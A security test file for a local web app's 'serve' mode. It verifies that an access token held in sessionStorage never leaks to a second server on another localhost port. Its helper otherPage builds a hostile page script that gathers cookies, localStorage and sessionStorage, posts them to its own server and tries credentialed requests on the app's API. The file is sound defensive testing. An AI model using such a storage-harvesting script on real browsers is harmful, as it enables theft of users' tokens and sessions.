/**
 * Issue 13: the `regioscan serve` token never reaches another server on 127.0.0.1. Cookies ignore
 * ports, so the token is no cookie: it arrives in the URL's fragment, lives in the tab's
 * sessionStorage (per origin, so per port) and goes out only as the X-Regioscan-Token header, on the
 * API and on the /events stream (read with fetch; no EventSource, no polling).
 *
 * A second HTTP server on another 127.0.0.1 port records everything it receives. The app is led to
 * it in the ways a page can be: the app page itself tries fetch/image/beacon (its CSP stops them), a
 * link in the data (an initiative's website) opens it in a new tab, and the app's tab navigates to
 * it and back. Its page then reads every cookie and storage it can and sends them home, and tries
 * the serve API with credentials (they go without token or cookie, and serve refuses them — see
 * serve-hardening.test.ts). The second server must never see the token — not in a cookie, a header,
 * a URL or a body — and serve must never send Set-Cookie (the harness checks that for every browser
 * test).
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureSampleScan, sampleScanPath } from '../../src-main/import/sample';
import { REPO_ROOT } from '../../src-main/version';
import { screenshot, startHarness, type Harness } from './harness';

interface Received {
  method: string;
  url: string;
  rawHeaders: string[];
  body: string;
}

interface Recorder {
  origin: string;
  received: Received[];
  reports: { found: Record<string, unknown>; tries: string[] }[];
  close(): Promise<void>;
}

/** What a hostile local page does: read whatever it can, try serve with credentials, report home. */
function otherPage(serveOrigin: string): string {
  return `<!doctype html><html lang="en"><title>Another local server</title><body><p>Another server on 127.0.0.1.</p><script>
(async () => {
  const serve = ${JSON.stringify(serveOrigin)};
  const all = (storage) => { const out = {}; for (let i = 0; i < storage.length; i++) out[storage.key(i)] = storage.getItem(storage.key(i)); return out; };
  const found = { cookie: document.cookie, local: all(localStorage), session: all(sessionStorage), href: location.href, referrer: document.referrer, opener: window.opener !== null };
  const tries = [];
  try { const r = await fetch(serve + '/api/app.info', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' }); tries.push('api:' + r.type); } catch { tries.push('api:blocked'); }
  try { const r = await fetch(serve + '/events', { credentials: 'include' }); tries.push('events:' + r.status); } catch { tries.push('events:blocked'); }
  await new Promise((done) => { const img = new Image(); img.onload = img.onerror = done; img.src = serve + '/api/app.info'; });
  await fetch('/report', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ found, tries }) });
  document.title = 'reported';
})();
</script></body></html>`;
}

async function startRecorder(serveOrigin: () => string): Promise<Recorder> {
  const received: Received[] = [];
  const reports: Recorder['reports'] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      received.push({ method: req.method ?? '', url: req.url ?? '', rawHeaders: req.rawHeaders, body });
      if (req.url === '/report') {
        reports.push(JSON.parse(body) as Recorder['reports'][number]);
        res.writeHead(204).end();
      } else if (req.url?.startsWith('/site')) {
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(otherPage(serveOrigin()));
      } else res.writeHead(404).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    origin: `http://127.0.0.1:${port}`,
    received,
    reports,
    close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(() => resolve()); }),
  };
}

describe('the serve token and another server on 127.0.0.1', () => {
  let h: Harness;
  let other: Recorder;
  let serveOrigin = '';
  const ownRequests: Request[] = [];

  beforeAll(async () => {
    other = await startRecorder(() => serveOrigin);
    h = await startHarness({
      prepare: async (db) => {
        await ensureSampleScan(db, sampleScanPath(join(REPO_ROOT, 'data')));
        // Data can lead the page elsewhere: every initiative's website is the other server.
        db.prepare('UPDATE initiative SET website = ?').run(`${other.origin}/site-from-a-link`);
      },
    });
    serveOrigin = new URL(h.server.url).origin;
    h.page.context().on('request', (r) => r.url().startsWith(`${serveOrigin}/`) && ownRequests.push(r));
  });
  afterAll(async () => {
    // The visits to the second server below are on purpose; every other request is still checked by the harness.
    for (let i = h.requests.length - 1; i >= 0; i--) if (h.requests[i]!.startsWith(`${other.origin}/`)) h.requests.splice(i, 1);
    await h?.close();
    await other?.close();
  });

  it('keeps the token in sessionStorage (also across a reload) and sends it only as a header to its own server', async () => {
    // Reloaded with the requests recorded from the start; the address bar no longer holds the token.
    await h.page.reload();
    await h.page.waitForSelector('[data-testid^="screen-"]');
    await h.page.getByTestId('nav-activiteiten').click();
    await h.page.locator('[data-testid^="activity-row-"]').first().waitFor();
    expect(await h.page.evaluate(() => ({ cookie: document.cookie, hash: location.hash, stored: Object.values(sessionStorage) }))).toEqual({
      cookie: '',
      hash: '#/activiteiten',
      stored: [h.server.token],
    });
    const api = ownRequests.filter((r) => r.url().startsWith(`${serveOrigin}/api/`));
    expect(api.length).toBeGreaterThan(3);
    for (const r of api) {
      expect(await r.headerValue('x-regioscan-token'), r.url()).toBe(h.server.token);
      expect(await r.headerValue('cookie'), r.url()).toBeNull();
    }
    for (const r of ownRequests) expect(r.url()).not.toContain(h.server.token);
  });

  it('follows an import through the event stream (fetch with the header), not by polling', async () => {
    const before = ownRequests.length;
    await h.page.getByTestId('nav-importeren').click();
    await h.page.getByTestId('import-file-input').setInputFiles(join(REPO_ROOT, 'tests', 'fixtures', 'report-cases.xlsx'));
    await h.page.getByTestId('import-preview').waitFor({ timeout: 30_000 });
    await h.page.getByTestId('import-commit').click();
    await h.page.getByTestId('import-done').waitFor({ timeout: 30_000 });
    // The new scan is listed: main announced the write on the same stream.
    await expect.poll(() => h.page.locator('[data-testid^="scan-row-"]').count()).toBe(2);
    const during = ownRequests.slice(before);
    // The page keeps one stream open for its whole life (data changes and import progress); the
    // reload above opened it, and an import needs no stream of its own.
    const streams = ownRequests.filter((r) => new URL(r.url()).pathname === '/events');
    const opened = during.filter((r) => new URL(r.url()).pathname === '/events').length;
    const statusCalls = during.filter((r) => new URL(r.url()).pathname === '/api/import.status');
    expect(streams.length).toBeGreaterThan(0);
    for (const r of streams) {
      expect(r.method()).toBe('GET');
      expect(r.resourceType()).toBe('fetch');
      expect(await r.headerValue('x-regioscan-token')).toBe(h.server.token);
    }
    // One status request each time the import began to follow the stream (while reading, and again
    // while writing) to catch up, and one more each time the stream opened again; no more: progress
    // came as events.
    expect(statusCalls.length).toBeLessThanOrEqual(2 + opened);
    // The scans list was asked again after the write (announced), not over and over.
    const lists = during.filter((r) => new URL(r.url()).pathname === '/api/scans.list').length;
    expect(lists).toBeGreaterThan(0);
    expect(lists).toBeLessThanOrEqual(1 + opened);
  });

  it('says in one sentence what to do when the page is opened without the token', async () => {
    const context = await h.browser.newContext({ locale: 'nl-NL', viewport: { width: 1440, height: 900 } });
    try {
      const page = await context.newPage();
      await page.goto(serveOrigin + '/');
      await page.waitForSelector('[data-testid^="screen-"]');
      await expect.poll(() => page.locator('body').innerText()).toContain('open het adres dat ‘regioscan serve’ toonde');
      await screenshot(page, 'serve-without-token');
    } finally {
      await context.close();
    }
  });

  it('never gives the token to a second local server, however the page is led there', async () => {
    const page = h.page;
    // What the other server's pages send to serve (the browser blocks the answers: CORS and CORP).
    const fromOther: { url: string; headers: Promise<Record<string, string>> }[] = [];
    page.context().on('request', (r) => {
      const frame = (() => {
        try {
          return r.frame().url();
        } catch {
          return '';
        }
      })();
      // The headers as sent, read at once (the popup that sent some is closed before the checks).
      if (frame.startsWith(`${other.origin}/`) && r.url().startsWith(`${serveOrigin}/`) && !r.isNavigationRequest()) fromOther.push({ url: r.url(), headers: r.allHeaders() });
    });

    // 1. The app page itself reaches for the other port: its CSP stops every way.
    const tried = await page.evaluate(async (target) => {
      const out: string[] = [];
      try {
        await fetch(`${target}/fetch-from-app`, { method: 'POST', credentials: 'include', body: 'x' });
        out.push('fetch reached');
      } catch {
        out.push('fetch blocked');
      }
      // A beacon is queued either way; that it never arrives is checked below.
      navigator.sendBeacon(`${target}/beacon-from-app`, 'x');
      out.push(
        await new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve('image reached');
          img.onerror = () => resolve('image blocked');
          img.src = `${target}/image-from-app.png`;
        }),
      );
      return out;
    }, other.origin);
    expect(tried).toEqual(['fetch blocked', 'image blocked']);

    // 2. A link in the data: an initiative's website opens the other server in a new tab.
    await page.getByTestId('nav-activiteiten').click();
    await page.locator('[data-testid^="activity-row-"]').first().click();
    const link = page.getByTestId('detail-website');
    await link.waitFor();
    const [popup] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
    await popup.waitForFunction(() => document.title === 'reported');
    await popup.close();

    // 3. The app's own tab goes to the other server, and comes back.
    await page.evaluate((target) => location.assign(`${target}/site-in-the-app-tab`), other.origin);
    await page.waitForFunction(() => document.title === 'reported');
    await page.goBack();
    await page.getByTestId('nav-overzicht').click();
    await page.getByTestId('screen-overzicht').waitFor();
    // Back in the app, the token is still in this tab (its origin's sessionStorage) and the data loads.
    await page.getByTestId('nav-activiteiten').click();
    await page.locator('[data-testid^="activity-row-"]').first().waitFor();
    await screenshot(page, 'serve-token-back-in-app');

    // What the second server received: the two visits and two reports, nothing from the app page.
    expect(other.reports).toHaveLength(2);
    const paths = other.received.map((r) => `${r.method} ${r.url}`);
    expect(paths).toEqual(expect.arrayContaining(['GET /site-from-a-link', 'GET /site-in-the-app-tab', 'POST /report']));
    expect(paths.filter((p) => /from-app/.test(p))).toEqual([]);
    const token = h.server.token;
    for (const r of other.received) {
      const everything = [r.method, r.url, ...r.rawHeaders, r.body].join('\n');
      expect(everything, `${r.method} ${r.url}`).not.toContain(token);
      expect(everything).not.toContain(encodeURIComponent(token));
      expect(r.rawHeaders.map((x) => x.toLowerCase()), `${r.method} ${r.url}`).not.toContain('cookie');
    }
    // Its pages found no cookie and no token in any storage they could read, and no opener or referrer to follow.
    for (const report of other.reports) {
      expect(report.found).toMatchObject({ cookie: '', local: {}, session: {}, referrer: '', opener: false });
    }
    // Its attempts on serve (API, stream, image; from both visits) carried no token and no cookie.
    expect(fromOther.map((r) => new URL(r.url).pathname).sort()).toEqual(['/api/app.info', '/api/app.info', '/api/app.info', '/api/app.info', '/events', '/events']);
    for (const r of fromOther) {
      const headers = await r.headers;
      expect(headers['x-regioscan-token'], r.url).toBeUndefined();
      expect(headers.cookie, r.url).toBeUndefined();
      expect(r.url).not.toContain(token);
    }
  });
});
